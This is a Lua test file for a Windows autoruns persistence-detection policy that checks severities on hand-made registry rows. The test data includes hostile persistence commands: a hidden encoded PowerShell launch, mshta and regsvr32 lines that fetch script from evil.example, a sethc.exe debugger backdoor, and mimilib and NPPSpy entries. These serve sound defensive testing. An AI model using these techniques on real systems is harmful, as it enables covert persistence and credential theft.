-- lua/autoruns.lua on hand-made rows (the plugin's row shape): each rule
-- fires on its shape at its severity and stays silent on Windows' own
-- values and on per-user programs in the user's AppData.
local autoruns = require "autoruns"
local policy = require "hh.policy"

local RANK = policy.RANK

local function row(t)
  local r = { hive = "/case/NTUSER.DAT", hive_kind = "NTUSER", key = "k", value = "v",
              technique = "T1547.001", last_write = "2026-10-14T02:10:00Z", last_write_epoch = 1791944400 }
  for k, v in pairs(t) do r[k] = v end
  if r.location and r.location:find("^hkcu") == nil and r.location ~= "startup-folder"
      and r.location ~= "logon-script" and t.hive_kind == nil then
    r.hive_kind = "SOFTWARE"
  end
  return r
end

local function hunt(rows, extra)
  local input = { plugin = "autoruns", rows = rows }
  for k, v in pairs(extra or {}) do input[k] = v end
  return autoruns.evaluate(input, {}), input
end

-- rule -> worst severity over the findings of one row
local function rules_of(rows, extra)
  local out = {}
  for _, f in ipairs(hunt(rows, extra)) do
    if not out[f.rule] or RANK[f.severity] > RANK[out[f.rule]] then out[f.rule] = f.severity end
  end
  return out
end

local function high(s) assert.is_true(s ~= nil and RANK[s] >= RANK.high, tostring(s)) end

local function worst(rows, extra)
  local w = "none"
  for _, f in ipairs(hunt(rows, extra)) do
    if w == "none" or RANK[f.severity] > RANK[w] then w = f.severity end
  end
  return w
end

describe("autoruns policy", function()
  it("leaves per-user programs in the user's own AppData at low at most", function()
    local r = row { location = "hkcu-run", user = "bob",
                    command = [["C:\Users\bob\AppData\Local\Vendor\Agent\agent.exe" /background]] }
    assert.same({ ["path-user-profile"] = "low" }, rules_of { r })
    assert.equal([[c:\users\bob\appdata\local\vendor\agent\agent.exe]], r.binary)
    assert.equal("/background", r.arguments)
    -- known per-user installs are allowed outright
    assert.same({}, rules_of { row { location = "hkcu-run", user = "bob",
      command = [["C:\Users\bob\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background]] } })
    assert.same({}, rules_of { row { location = "hkcu-run", command = [[%LOCALAPPDATA%\Microsoft\Teams\Update.exe --processStart "Teams.exe"]] } })
  end)

  it("does not let the same AppData path pass elsewhere", function()
    local cmd = [["C:\Users\bob\AppData\Local\Vendor\agent.exe"]]
    high(rules_of { row { location = "hklm-run", command = cmd } }["path-user-writable"])
    high(rules_of { row { location = "hkcu-run", user = "alice", command = cmd } }["path-user-writable"])
    high(rules_of { row { location = "hkcu-run", user = "bob",
      command = [[C:\Users\bob\AppData\Local\Temp\a.exe]] } }["path-user-writable"])
    high(rules_of { row { location = "hkcu-run", command = [[C:\Users\Public\a.exe]] } }["path-user-writable"])
    high(rules_of { row { location = "hkcu-run", user = "bob",
      command = [[C:\Users\bob\AppData\Roaming\svchost.exe]] } }["binary-impersonation"])
    assert.equal("medium", rules_of { row { location = "hkcu-run", user = "bob",
      command = [[C:\Users\bob\Downloads\invoice.exe]] } }["path-user-profile"])
  end)

  it("judges interpreters by what they are told to run", function()
    high(rules_of { row { location = "hkcu-run",
      command = "powershell.exe -nop -w hidden -enc SQBFAFgA" } }["interpreter-command"])
    high(rules_of { row { location = "hkcu-run",
      command = [[mshta.exe "https://evil.example/a.hta"]] } }["interpreter-command"])
    high(rules_of { row { location = "hklm-run",
      command = [[regsvr32 /s /n /u /i:https://evil.example/a.sct scrobj.dll]] } }["interpreter-command"])
    high(rules_of { row { location = "hklm-run",
      command = [[rundll32.exe C:\ProgramData\x\y.dll,Start]] } }["interpreter-command"])
    high(rules_of { row { location = "hkcu-run",
      command = [[wscript.exe //B "C:\Users\Public\a.vbs"]] } }["interpreter-command"])
    -- Windows' own rundll32 uses stay silent
    assert.same({}, rules_of { row { location = "active-setup",
      command = [["%windir%\system32\rundll32.exe" "%windir%\system32\iesetup.dll",IEHardenUser]] } })
  end)

  it("flags IFEO debuggers, and knows Process Explorer", function()
    local sethc = row { location = "ifeo-debugger", technique = "T1546.012", target = "sethc.exe",
                        command = [[C:\Windows\System32\cmd.exe]] }
    local fs = hunt { sethc }
    assert.equal("ifeo-debugger", fs[1].rule)
    assert.equal("T1546.008", fs[1].technique)
    assert.is_true(RANK[fs[1].severity] >= RANK.high)
    high(worst { row { location = "ifeo-debugger", target = "notepad.exe", command = [[C:\x\dbg.exe]] } })
    assert.same({ ["ifeo-known-debugger"] = "low" }, rules_of { row { location = "ifeo-debugger", target = "taskmgr.exe",
      command = [["C:\Tools\procexp64.exe"]] } })
    assert.equal("none", worst { row { location = "ifeo-debugger", target = "Your Image File Name Here without a path",
      command = "ntsd -d" } })
  end)

  it("flags SilentProcessExit monitors, armed or not", function()
    high(rules_of { row { location = "silent-process-exit", target = "lsass.exe", global_flag = 0x200,
      command = [[C:\Windows\Temp\m.exe]] } }["silent-process-exit"])
    assert.equal("medium", rules_of { row { location = "silent-process-exit", target = "notepad.exe",
      command = [[C:\Tools\m.exe]] } }["silent-process-exit"])
  end)

  it("flags AppInit and AppCert DLLs", function()
    high(rules_of { row { location = "appinit-dlls", load_appinit_dlls = 1, command = [[C:\x\a.dll]] } }["appinit-dlls"])
    assert.same({ ["appinit-dlls-dormant"] = "low" }, rules_of { row { location = "appinit-dlls", load_appinit_dlls = 0, command = [[C:\x\a.dll]] } })
    high(rules_of { row { location = "appcert-dlls", hive_kind = "SYSTEM", command = [[C:\x\a.dll]] } }["appcert-dlls"])
  end)

  it("knows Winlogon's, the Session Manager's and LSA's stock values", function()
    for _, r in ipairs {
      row { location = "winlogon-shell", command = "explorer.exe" },
      row { location = "winlogon-userinit", command = [[C:\Windows\system32\userinit.exe]] },
      row { location = "winlogon-userinit", command = "userinit" },
      row { location = "boot-execute", hive_kind = "SYSTEM", command = "autocheck autochk *" },
      row { location = "lsa-security-packages", hive_kind = "SYSTEM", command = "kerberos" },
      row { location = "lsa-security-packages", hive_kind = "SYSTEM", command = '""' },
      row { location = "lsa-notification-packages", hive_kind = "SYSTEM", command = "scecli" },
      row { location = "print-monitor", hive_kind = "SYSTEM", command = "localspl.dll" },
      row { location = "time-provider", hive_kind = "SYSTEM", command = [[%systemroot%\system32\w32time.dll]] },
      row { location = "network-provider", hive_kind = "SYSTEM", command = "RDPNP", provider_path = [[%SystemRoot%\System32\drprov.dll]] },
    } do
      assert.same({}, rules_of { r }, r.location .. " " .. r.command)
    end
    high(rules_of { row { location = "winlogon-userinit", command = [[C:\ProgramData\u.exe]] } }["winlogon-nonstock"])
    high(rules_of { row { location = "winlogon-shell", command = "explorer.exe evil.exe" } }["winlogon-nonstock"])
    high(rules_of { row { location = "boot-execute", hive_kind = "SYSTEM", command = "evil" } }["boot-execute-nonstock"])
    high(rules_of { row { location = "lsa-security-packages", hive_kind = "SYSTEM", command = "mimilib" } }["lsa-package-nonstock"])
    high(rules_of { row { location = "lsa-notification-packages", hive_kind = "SYSTEM", command = "rassfm2" } }["lsa-package-nonstock"])
    high(rules_of { row { location = "print-monitor", hive_kind = "SYSTEM", command = [[C:\Users\Public\m.dll]] } }["dll-outside-system32"])
    high(rules_of { row { location = "time-provider", hive_kind = "SYSTEM", command = [[C:\x\t.dll]] } }["dll-outside-system32"])
    assert.equal("medium", rules_of { row { location = "network-provider", hive_kind = "SYSTEM", command = "NPPSpy",
      provider_path = [[%SystemRoot%\System32\NPPSpy.dll]] } }["network-provider-nonstock"])
  end)

  it("flags a redirected Startup folder", function()
    assert.same({}, rules_of { row { location = "startup-folder", user = "bob",
      command = [[%USERPROFILE%\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup]] } })
    assert.same({}, rules_of { row { location = "startup-folder", user = "joe",
      command = [[C:\Documents and Settings\joe\Start Menu\Programs\Startup]] } })
    high(rules_of { row { location = "startup-folder", user = "bob",
      command = [[C:\ProgramData\Startup]] } }["startup-folder-redirected"])
    assert.equal("medium", rules_of { row { location = "startup-folder", user = "bob",
      command = [[\\fs01\profiles$\bob\Start Menu\Programs\Startup]] } }["startup-folder-redirected"])
  end)

  it("marks rarely used locations", function()
    assert.equal("medium", rules_of { row { location = "logon-script", technique = "T1037.001",
      command = [[C:\Scripts\logon.exe]] } }["rare-location"])
    local fs = hunt { row { location = "logon-script", technique = "T1037.001", command = [[C:\Scripts\logon.exe]] } }
    assert.equal("T1037.001", fs[1].technique)
  end)

  it("carries the locating fields in every finding", function()
    local fs = hunt { row { location = "hklm-run", user = nil, key = [[Microsoft\Windows\CurrentVersion\Run]], value = "upd",
      command = [[C:\Windows\Temp\upd.exe -q]] } }
    local f = fs[1]
    for _, k in ipairs { "plugin", "technique", "hive", "hive_kind", "key", "value", "location", "command", "binary" } do
      assert.is_not_nil(f[k], k)
    end
    assert.equal("autoruns", f.plugin)
    assert.equal([[c:\windows\temp\upd.exe]], f.binary)
  end)

  it("compares against a baseline and a time window", function()
    local base = { rows = {
      row { location = "hklm-run", value = "a", command = "a.exe" },
      row { location = "hklm-run", value = "b", command = "b.exe" },
      row { location = "hklm-run", value = "gone", command = "g.exe" } } }
    local now = {
      row { location = "hklm-run", value = "a", command = "a.exe" },
      row { location = "hklm-run", value = "b", command = "b2.exe" },
      row { location = "hklm-run", value = "new", command = "n.exe" } }
    local got = {}
    for _, f in ipairs(hunt(now, { baseline = base })) do got[f.rule .. ":" .. f.value] = true end
    assert.same({ ["baseline-changed:b"] = true, ["baseline-added:new"] = true, ["baseline-removed:gone"] = true }, got)
    assert.same({ ["lastwrite-in-window"] = "low" },
      rules_of({ row { location = "hklm-run", command = "a.exe" } }, { since = "2026-10-14T00:00:00Z" }))
    assert.same({}, rules_of({ row { location = "hklm-run", command = "a.exe" } }, { since = "2026-10-15T00:00:00Z" }))
  end)

  it("extends like the other policies", function()
    local mine = autoruns.extend { disable = { "path-user-profile" } }
    assert.same({}, (function()
      local out = {}
      for _, f in ipairs(mine.evaluate({ rows = { row { location = "hkcu-run", command = [[C:\Users\bob\AppData\x.exe]] } } }, {})) do
        out[#out + 1] = f.rule
      end
      return out
    end)())
  end)
end)
